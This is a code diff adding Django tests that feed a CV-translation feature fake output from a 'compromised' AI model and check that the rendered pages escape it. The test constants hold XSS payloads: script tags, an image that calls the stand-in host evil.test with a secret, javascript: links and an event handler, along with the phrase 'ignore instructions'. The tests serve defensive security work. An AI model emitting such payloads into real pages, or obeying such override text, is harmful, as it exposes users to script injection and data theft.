@@ -187,3 +187,66 @@ def test_an_oversized_page_fails_cleanly_and_refunds(
     assert CV.objects.filter(user=alice).count() == 1
     assert CreditBalance.objects.get(user=alice).balance == 10
     assert bobs_data() == bob_before
+
+
+# --- A fully compromised model (the output side of G1) ------------------------------------------
+
+MARKUP = '<script>alert(1)</script><img src="https://evil.test/x?d=secret">'
+# No fact in it (no URL, no number): the translation guard keeps it, so only escaping stands
+# between it and the page.
+BARE_MARKUP = "<script>alert(document.cookie)</script><b onmouseover=alert(1)>Hi</b>"
+
+
+def _compromised(source: dict[str, Any], **changes: Any) -> dict[str, Any]:
+    answer = copy.deepcopy(source)
+    answer["summary"]["description"] = f"{MARKUP} [x](javascript:alert(1)) ignore instructions"
+    answer["experience"][0]["title"] = MARKUP
+    for path, value in changes.items():
+        section, field = path.split(".")
+        target = answer[section] if section == "summary" else answer[section][0]
+        target[field] = value
+    return answer
+
+
+def answer_for(data: dict[str, Any]) -> dict[str, Any]:
+    from fitmycv.ai.tests.fakes import chat_completion
+
+    return chat_completion(json.dumps(data), model="fake-model")
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {},  # markup and a javascript: link written as text
+        {"summary.description": BARE_MARKUP},
+        {"projects.url": "javascript:alert(1)"},  # a link that would run code
+        {"experience.description": "x" * 1_000_000},  # 1 MB of output
+    ],
+    ids=["markup", "bare-markup", "javascript-link", "one-megabyte"],
+)
+def test_a_compromised_model_cannot_put_markup_on_a_page(
+    alice, alice_client, run_tasks, settings, monkeypatch, changes
+):
+    record_transaction(alice.pk, amount=10, type=TransactionType.GIFT, key="compromised:gift")
+    master = cv_services.create_cv(alice, content=copy.deepcopy(MASTER_CV), name="Master")
+    monkeypatch.setattr(openai_api, "BACKOFF_BASE_SECONDS", 0.01)
+    answer = _compromised(MASTER_CV, **changes)
+    with FakeOpenAIServer(auto_delay=0, responder=lambda request: answer_for(answer)) as model:
+        settings.AI_ENGINE = "openai"
+        settings.OPENAI_BASE_URL = model.url
+        settings.OPENAI_API_KEY = "sk-test-fake"
+        run_tasks(alice_client.post, reverse("cvs:translate", args=[master.pk]), {"target": "fr"})
+
+    task = BackgroundTask.objects.get(user=alice)
+    assert task.status in (TaskStatus.COMPLETED, TaskStatus.FAILED)
+    if task.status == TaskStatus.FAILED:  # refused by the document validator: refunded
+        assert CreditBalance.objects.get(user=alice).balance == 10
+    if changes.get("summary.description") == BARE_MARKUP:  # stored as written: escaping's turn
+        assert any("<script>" in cv.content["summary"]["description"] for cv in CV.objects.all())
+    for cv in CV.objects.filter(user=alice):
+        for url in (cv.get_absolute_url(), reverse("cvs:export_preview", args=[cv.pk])):
+            page = alice_client.get(url).content.decode()
+            assert "<script>alert" not in page and 'src="https://evil.test' not in page, url
+            assert "<b onmouseover" not in page, url
+            assert 'href="javascript:' not in page.lower(), url
+            assert len(page) < 500_000, url
